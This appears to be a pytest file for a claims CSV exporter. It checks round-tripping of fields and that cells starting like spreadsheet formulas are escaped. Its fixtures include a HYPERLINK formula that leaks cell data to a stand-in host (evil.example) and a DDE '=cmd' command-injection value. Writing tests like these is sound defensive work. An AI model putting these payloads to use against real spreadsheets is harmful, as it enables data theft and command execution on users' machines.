"""The claims CSV: one row per claim, the claims-jsonl fields, lists joined by "; "."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from tracewire.cli.app import app
from tracewire.records import BuildReport
from tracewire.serve.csv_export import FIELDS, FORMULA_STARTS
from tracewire.serve.csv_export import cell as csv_cell
from tracewire.serve.exports import claim_records, export
from tracewire.serve.web import create_app
from tracewire.store import Store, open_store

from .conftest import Trade
from .web.factory import StoreBuilder


def csv_rows(store: Store) -> tuple[list[str], list[dict[str, str]], int]:
    out = io.StringIO()
    with store.session() as session:
        count = export(session, "claims-csv", out)
    reader = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows, count


def test_dev_corpus_one_row_per_claim(dev_store: tuple[Store, BuildReport]) -> None:
    store, _report = dev_store
    header, rows, count = csv_rows(store)
    with store.session() as session:
        records = claim_records(session)
    assert len(rows) == count == len(records) > 0
    assert set(header) == set(records[0])  # the claims-jsonl fields
    assert header[: len(FIELDS)] == list(FIELDS)
    by_id = {row["id"]: row for row in rows}
    for record in records:
        row = by_id[str(record["id"])]
        assert row["evidence"] == record["evidence"]
        assert row["subject"] == record["subject"] and row["object"] == record["object"]
        assert row["hedging"] == "; ".join(record["hedging"])
        assert row["technology"] == (record["technology"] or "")
        assert float(row["confidence"]) == record["confidence"]


def test_lists_quotes_and_line_breaks_round_trip(trade: Trade) -> None:
    _header, rows, _count = csv_rows(trade.store)
    assert len(rows) == len(trade.claims)
    by_id = {int(row["id"]): row for row in rows}
    quoted = by_id[trade.claims["technology"]]
    assert quoted["evidence"] == 'Zenith Labs supplies\nGaze, the "eye", to anyone.'
    assert quoted["sanctions"].startswith("subject: Test SDN: ZENITH LABS")
    assert by_id[trade.claims["supplies_b"]]["hedging"] == "planned"
    assert by_id[trade.claims["contract"]]["source"] == "Local Watch"
    assert by_id[trade.claims["contract"]]["sanctions"] == ""


def test_empty_store_writes_the_header(store: Store) -> None:
    header, rows, count = csv_rows(store)
    assert header == list(FIELDS) and rows == [] and count == 0


def test_web_and_cli_serve_csv(trade: Trade, tmp_path: Path) -> None:
    with TestClient(create_app(trade.store.url)) as client:
        response = client.get("/api/export/claims-csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert len(list(csv.DictReader(io.StringIO(response.text, newline="")))) == len(trade.claims)
    target = tmp_path / "claims.csv"
    result = CliRunner().invoke(
        app, ["export", "--format", "claims-csv", "--db", trade.store.url, "-o", str(target)]
    )
    assert result.exit_code == 0, result.output
    with target.open(newline="", encoding="utf-8") as handle:
        assert len(list(csv.DictReader(handle))) == len(trade.claims)


FORMULA_DOC = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click") Acme sold drones. '
    "+1-555 Borduria bought radios. -2+3 cameras went to Ruritania. "
    "@SUM(A1:A9) is what Zenith paid. \tTabbed Acme sold kits. \rReturned Acme sold more. "
    "Acme sold sensors to Ruritania; plain text stays as it is."
)


def test_cells_that_start_like_a_formula_are_escaped(tmp_path: Path) -> None:
    store = open_store(str(tmp_path / "f.db"))
    b = StoreBuilder(store)
    b.document("docF", "formulas.txt", FORMULA_DOC)
    acme = b.entity("=cmd|' /C calc'!A0", "Company")
    ruritania = b.entity("Ruritania", "Country")
    sentences = [s.strip(" ") for s in re.split(r"(?<=\.) ", FORMULA_DOC)]
    for sentence in sentences:
        b.claim("docF", acme, "supplies", ruritania, sentence, technology="-drones", source="@x")
    out = io.StringIO()
    with store.session() as session:
        export(session, "claims-csv", out)
    with TestClient(create_app(store.url)) as client:
        served = client.get("/api/export/claims-csv").text
    store.close()
    assert served.replace("\r\n", "\n") == out.getvalue().replace("\r\n", "\n")
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [row["evidence"] for row in rows] == [
        "'" + s if s[:1] in ("=", "+", "-", "@", "\t", "\r") else s for s in sentences
    ]
    for row in rows:
        assert row["subject"] == "'=cmd|' /C calc'!A0"
        assert (row["technology"], row["source"]) == ("'-drones", "'@x")
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    assert rows[-1]["evidence"].startswith("Acme sold sensors")  # plain text unchanged


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("-", "'-"), ("a=b", "a=b"), (-3, -3), (2.5, 2.5), (["=x", "y"], "'=x; y")],
)
def test_escape_formula_leaves_numbers_and_inner_signs(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
